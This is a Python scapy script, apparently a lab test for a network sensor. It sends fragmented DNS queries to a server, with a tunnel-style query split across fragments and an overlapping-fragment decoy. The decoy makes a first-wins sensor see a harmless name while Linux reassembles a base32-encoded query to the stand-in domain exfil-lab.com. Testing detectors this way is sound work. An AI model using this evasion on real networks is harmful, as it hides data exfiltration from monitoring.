#!/usr/bin/python3
"""frag.py SERVER - IPv4 fragments of DNS queries to SERVER:53 (scapy, raw IP
from the lab's client; /usr/bin/python3 for scapy), FINDINGS.md R20-3:
  1. a tunnel-style query in two fragments, the name split (both read it);
  2. the decoy of docs/architecture.md "Overlapping fragments": the head of a
     decoy query (www-style name), a fragment that partly overlaps it (Linux
     discards that datagram), the shared tail (which completes the decoy in
     the sensor, whose first-arrived bytes win, and starts a new datagram in
     Linux), then the real query's head (Linux completes the real query).
One packet at a time, 0.2 s apart."""
import sys, time
from scapy.all import IP, UDP, DNS, DNSQR, Raw, send, conf

conf.verb = 0
SRC = "10.53.3.10"


def udp_bytes(server, name, sport, dnsid):
    """The UDP header and payload of a query for name, checksum computed."""
    p = IP(src=SRC, dst=server) / UDP(sport=sport, dport=53) / DNS(id=dnsid, rd=1, qd=DNSQR(qname=name))
    p = IP(bytes(p))   # the checksums computed
    return bytes(p[UDP])


def frag(server, ipid, off, data, mf):
    """One IPv4 fragment of a UDP datagram: data at byte offset off."""
    return IP(src=SRC, dst=server, id=ipid, proto=17, flags="MF" if mf else 0, frag=off // 8) / Raw(data)


def decoy_trick(server, ipid, decoy, real, k, gap):
    """Decoy head, a fragment that partly overlaps it (Linux discards the
    datagram), the shared tail (completes the decoy in a first-wins
    reassembly, starts a new datagram in Linux), then the real head (Linux
    completes the real datagram); decoy and real share their bytes from
    k - 8 on."""
    assert len(decoy) == len(real) and decoy[k - 8:] == real[k - 8:]
    send(frag(server, ipid, 0, decoy[:k], True))               # decoy head
    time.sleep(gap)
    send(frag(server, ipid, k - 8, real[k - 8:k + 8], True))   # overlaps [k-8, k)
    time.sleep(gap)
    send(frag(server, ipid, k, real[k:], False))               # shared tail
    time.sleep(gap)
    send(frag(server, ipid, 0, real[:k], True))                # the real head


def main():
    server = sys.argv[1]
    # 1. in order, the name split between the fragments
    u = udp_bytes(server, "fragtestmzxw6ytboi4dcnzr.gezdgnbvgy3tqojq.f01.exfil-lab.com", 40001, 0x6101)
    send(frag(server, 0x7101, 0, u[:32], True))
    time.sleep(0.2)
    send(frag(server, 0x7101, 32, u[32:], False))
    time.sleep(0.5)
    # 2. decoy and real query of the same length and the same tail; both
    # heads [0, 56)
    decoy = udp_bytes(server, "wwwwwwwwwwwwwwwwwwwwgezdgnbvgy3tqojq00.f02.exfil-lab.com", 40002, 0x6102)
    real = udp_bytes(server, "mzxw6ytboi4dcnzrgy3tgezdgnbvgy3tqojq00.f02.exfil-lab.com", 40002, 0x6102)
    decoy_trick(server, 0x7102, decoy, real, 56, 0.2)
    time.sleep(0.5)


if __name__ == "__main__":
    main()

